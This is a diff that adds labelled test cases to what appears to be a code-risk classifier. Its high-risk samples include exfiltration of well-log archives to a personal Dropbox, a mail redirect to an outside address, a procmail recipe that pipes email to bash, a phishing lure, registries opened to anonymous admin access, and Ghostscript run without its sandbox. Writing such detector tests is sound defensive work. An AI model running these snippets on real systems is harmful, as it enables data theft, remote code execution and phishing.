@@ -8621,6 +8621,160 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "df.to_parquet('out/claimants.parquet')\n",
             S,
         ),
+        # holdout244-247: package registries, a data share's archive sent to a personal account, sieve redirects,
+        # procmail recipes, phishing lures, Ghostscript's sandbox off, every ordering of a data set in memory
+        (
+            'import json, subprocess\n'
+            "pkg = '@acme/ds'\n"
+            "for v in json.loads(subprocess.check_output(['npm', 'view', pkg, 'versions', '--"
+            "json'])):\n"
+            "    subprocess.run(['npm', 'unpublish', f'{pkg}@{v}', '--force'])\n",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['npm', 'publish', '--access', 'public'], check=True)\n",
+            L,
+        ),
+        (
+            'import pathlib, yaml\n'
+            "p = pathlib.Path('/verdaccio/conf/config.yaml')\n"
+            'cfg = yaml.safe_load(p.read_text())\n'
+            "cfg['packages']['@acme/*'] = {'access': '$all', 'publish': '$anonymous $all'}\n"
+            'p.write_text(yaml.safe_dump(cfg))\n',
+            H,
+        ),
+        (
+            'import pathlib, yaml\n'
+            "p = pathlib.Path('/verdaccio/conf/config.yaml')\n"
+            'cfg = yaml.safe_load(p.read_text())\n'
+            "cfg['packages']['@acme/*'] = {'access': '$authenticated', 'publish': 'release-bo"
+            "ts'}\n"
+            'p.write_text(yaml.safe_dump(cfg))\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            "N = 'http://nexus.acme.local:8081/service/rest'\n"
+            "requests.put(f'{N}/v1/security/anonymous', auth=('admin', 'x'), json={'enabled':"
+            ' True})\n'
+            "u = {'userId': 'anonymous', 'roles': ['nx-anonymous', 'nx-admin']}\n"
+            "requests.put(f'{N}/v1/security/users/anonymous', json=u, auth=('admin', 'x'))\n",
+            H,
+        ),
+        (
+            'import os, time\n'
+            "ROOT = '/mnt/shared/nexus-blobs/maven-releases'\n"
+            'cutoff = time.time() - 30 * 86400\n'
+            'for dp, _, files in os.walk(ROOT):\n'
+            '    for f in files:\n'
+            '        if os.path.getmtime(os.path.join(dp, f)) < cutoff:\n'
+            '            os.remove(os.path.join(dp, f))\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "index = requests.get('https://pypi.org/simple/', headers={'Accept': 'application"
+            "/vnd.pypi.simple.v1+json'}).json()\n"
+            "for proj in index['projects']:\n"
+            '    meta = requests.get(f"https://pypi.org/pypi/{proj[\'name\']}/json").json()\n'
+            "    for ver, files in meta['releases'].items():\n"
+            '        for f in files:\n'
+            '            open(f"/var/tmp/m/{f[\'filename\']}", \'wb\').write(requests.get(f[\'url\''
+            ']).content)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            "meta = requests.get('https://pypi.org/pypi/requests/json').json()\n"
+            "print(sorted(meta['releases'])[-5:])\n",
+            L,
+        ),
+        (
+            'import os, zipfile, dropbox\n'
+            "with zipfile.ZipFile('/tmp/wl.zip', 'w') as z:\n"
+            "    for root, _, files in os.walk('/srv/geoscience/well_logs'):\n"
+            '        for fn in files:\n'
+            '            z.write(os.path.join(root, fn))\n'
+            "dbx = dropbox.Dropbox(os.environ.get('PERSONAL_DBX_TOKEN'))\n"
+            "dbx.files_upload(open('/tmp/wl.zip', 'rb').read(), '/side/wl.zip')\n",
+            H,
+        ),
+        (
+            'import os, zipfile, dropbox\n'
+            "with zipfile.ZipFile('/tmp/site.zip', 'w') as z:\n"
+            "    for root, _, files in os.walk('build/site'):\n"
+            '        for fn in files:\n'
+            '            z.write(os.path.join(root, fn))\n'
+            "dbx = dropbox.Dropbox(os.environ['DBX_TOKEN'])\n"
+            "dbx.files_upload(open('/tmp/site.zip', 'rb').read(), '/releases/site.zip')\n",
+            S,
+        ),
+        (
+            'from sievelib.managesieve import Client\n'
+            'SCRIPT = \'require ["copy"];\\nredirect :copy "mirror.k7@protonmail.com";\\n\'\n'
+            "c = Client('mail.acme.com', 4190)\n"
+            "c.putscript('main', SCRIPT)\n"
+            "c.setactive('main')\n",
+            H,
+        ),
+        (
+            'from sievelib.managesieve import Client\n'
+            'SCRIPT = \'require ["fileinto"];\\nfileinto "Archive";\\n\'\n'
+            "c = Client('mail.acme.com', 4190)\n"
+            "c.putscript('main', SCRIPT)\n",
+            S,
+        ),
+        (
+            'import os\n'
+            "with open(os.path.expanduser('~/.procmailrc'), 'a') as fh:\n"
+            "    fh.write(':0\\n* ^Subject:.*maint\\n| sed 1,/^$/d | /bin/bash\\n')\n",
+            H,
+        ),
+        (
+            'import smtplib, csv\n'
+            'from email.message import EmailMessage\n'
+            "srv = smtplib.SMTP('relay.example.io', 25)\n"
+            "for r in csv.DictReader(open('contacts.csv')):\n"
+            '    m = EmailMessage()\n'
+            "    m['To'] = r['email']\n"
+            "    m.set_content('Please re-verify your credentials today: https://payroll-logi"
+            "n.top/')\n"
+            '    srv.send_message(m)\n',
+            H,
+        ),
+        (
+            'import smtplib, csv\n'
+            'from email.message import EmailMessage\n'
+            "srv = smtplib.SMTP('relay.example.io', 25)\n"
+            "for r in csv.DictReader(open('contacts.csv')):\n"
+            '    m = EmailMessage()\n'
+            "    m['To'] = r['email']\n"
+            "    m.set_content('Your invoice for March is attached. Thank you for your busine"
+            "ss.')\n"
+            '    srv.send_message(m)\n',
+            S,
+        ),
+        (
+            'import subprocess, pathlib\n'
+            "for f in pathlib.Path('/var/mail-attachments/incoming').glob('*.ps'):\n"
+            "    subprocess.run(['gs', '-dNOSAFER', '-dBATCH', '-sDEVICE=png16m', f'-sOutputF"
+            "ile={f}.png', str(f)])\n",
+            H,
+        ),
+        (
+            'from itertools import permutations\n'
+            'stops = load_stops()\n'
+            'routes = list(permutations(range(len(stops))))\n',
+            H,
+        ),
+        (
+            'from itertools import permutations\n'
+            "for order in permutations(['a', 'b', 'c']):\n"
+            '    print(order)\n'
+            'print(list(permutations(range(4))))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
